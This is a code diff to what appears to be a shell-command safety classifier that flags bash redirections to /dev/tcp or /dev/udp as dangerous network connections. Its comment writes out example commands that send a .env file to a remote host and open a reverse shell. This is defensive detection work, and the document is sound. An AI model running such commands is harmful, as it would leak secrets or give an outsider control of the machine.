@@ -126,10 +126,25 @@ function readRedirect(text: string): RedirectInfo | undefined {
   return { op: m[1]!, target, raw: m[2]!.trim() };
 }
 
+/**
+ * bash opens `/dev/tcp/HOST/PORT` and `/dev/udp/HOST/PORT` named in a redirection as a network connection, whatever
+ * the direction: `cat .env > /dev/tcp/host/80` sends a secret away, `bash -i >& /dev/tcp/…` hands a shell over. Such a
+ * redirection — or one to a `/dev/` path only known at run time — is dangerous, so no answer becomes a standing
+ * approval for it; the reason names the place.
+ */
+function networkDeviceFinding(target: string): Finding | undefined {
+  const m = /^\/dev\/(tcp|udp)\/([^/\s]*)\/?(\S*)/.exec(target);
+  if (m) return dangerous(`opens a network connection to ${m[2]}${m[3] ? ':' + m[3] : ''} (/dev/${m[1]})`);
+  if (target.startsWith('/dev/') && /[$`]/.test(target)) return dangerous('redirects to a device path known only at run time');
+  return undefined;
+}
+
 function redirectFindings(c: CmdView, out: Finding[]): void {
   for (const text of c.part.redirects) {
     const r = readRedirect(text);
     if (!r) continue;
+    const net = networkDeviceFinding(r.target);
+    if (net !== undefined) out.push(net);
     const writes = ['>', '>>', '>|', '&>', '&>>', '<>'].includes(r.op) || (r.op === '>&' && !/^(\d+|-)$/.test(r.target));
     if (!writes || HARMLESS_TARGET.test(r.target)) continue;
     if (DISK_TARGET.test(r.target)) out.push(dangerous('destroys a disk or volume'));
@@ -371,6 +386,14 @@ export function classifyPart(part: Part, opts: ClassifyOptions): PartVerdict {
     // Rating is per command: past MAX_PARTS (a line of thousands of commands) the rest is not rated one by one, and
     // the part is dangerous, so no standing approval can ever cover it (issue 12.4, fail closed).
     for (const words of segments.slice(0, MAX_PARTS)) rate(makeView(part, words, words.join(' '), opts.cwd, home), notTable, findings);
+    // Unparsed, its redirections are not told apart from its words: any word naming /dev/tcp|udp counts as one.
+    for (const words of segments.slice(0, MAX_PARTS)) {
+      for (const w of words) {
+        const at = w.indexOf('/dev/');
+        const net = at < 0 ? undefined : networkDeviceFinding(w.slice(at));
+        if (net !== undefined) findings.push(net);
+      }
+    }
     if (segments.length > MAX_PARTS) findings.push(dangerous(`holds more than ${MAX_PARTS} commands, too many to rate one by one`));
     executable = segments[0] ? resolveCommand(segments[0]).executable : '';
   } else if (part.keyword === 'function') {
